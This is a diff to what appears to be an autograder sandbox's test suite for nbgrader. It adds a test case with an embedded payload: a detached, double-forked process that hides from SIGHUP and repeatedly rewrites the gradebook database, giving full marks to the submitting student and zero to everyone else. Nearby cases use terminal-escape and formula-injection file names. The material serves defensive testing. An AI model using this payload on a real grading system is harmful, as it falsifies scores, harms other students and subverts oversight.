@@ -515,6 +515,48 @@ LONG_NAME = "a" * 245
 ESCAPES = "\x1b]2;graded 100 of 100\x07\x1b[2J\x1b[1;32m"
 
 
+
+# Started at import (in the CLI's child, or in the notebook's kernel under nbgrader autograde): a
+# process detached by setsid and a double fork, deaf to SIGHUP, that for a minute keeps rewriting
+# nbgrader's gradebook (@GRADEBOOK@: full marks for its author, 0 for everyone else, so it wins
+# even after the scores are saved) and drops files in @MARKERS@, the course and the exchange.
+# Placeholders a run does not fill are skipped. It must be gone before any score is saved.
+DETACHED_EDITOR = r'''
+def _detached_editor():
+    import ctypes, os, signal, sqlite3, time
+    if os.fork():
+        return
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    signal.signal(signal.SIGHUP, signal.SIG_IGN)
+    ctypes.CDLL(None).prctl(15, b"@TOKEN@d", 0, 0, 0)
+    me = os.path.basename(os.path.dirname(os.getcwd()))
+    full_marks = """UPDATE grade SET manual_score = CASE WHEN notebook_id IN (
+        SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id
+        WHERE sa.student_id = ?) THEN (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
+        ELSE 0 END"""
+    end = time.time() + 60
+    while time.time() < end:
+        for folder in ("@MARKERS@", "@COURSE@", "@EXCHANGE@"):
+            if not folder.startswith("@"):
+                try:
+                    open(os.path.join(folder, f"detached-{os.getpid()}"), "w").close()
+                except OSError:
+                    pass
+        if not "@GRADEBOOK@".startswith("@"):
+            try:
+                with sqlite3.connect("@GRADEBOOK@", timeout=1) as db:
+                    db.execute(full_marks, (me,))
+            except Exception:
+                pass
+        time.sleep(0.2)
+    os._exit(0)
+
+_detached_editor()
+print("detached editor started")
+'''
+
 CASES = [
     # --- attacks on the sandbox: blank stubs, gated on the attack working (must stay 0) ---
     Case("01_gated_read_reference", "read the reference / suites by any path", "blank", 0,
@@ -636,6 +678,9 @@ CASES = [
     Case("56_formula_at", "a folder name starting with @", "blank", 0, folder="@SUM(56)"),
     Case("57_terminal_escapes", "terminal escape sequences in the folder name and a file name", "simple", 15,
          {f"{ESCAPES}passed.py": "x = 1\n"}, folder=f"57_{ESCAPES}", note="not a valid module name"),
+    # --- the nbgrader kernel (issue 9) ---
+    Case("58_detached_score_editor", "a detached process that rewrites the gradebook after the scores are saved",
+         "blank", 0, {"simple_attention.py": append(DETACHED_EDITOR)}, tokens=("@TOKEN@d",)),
 ]
 
 
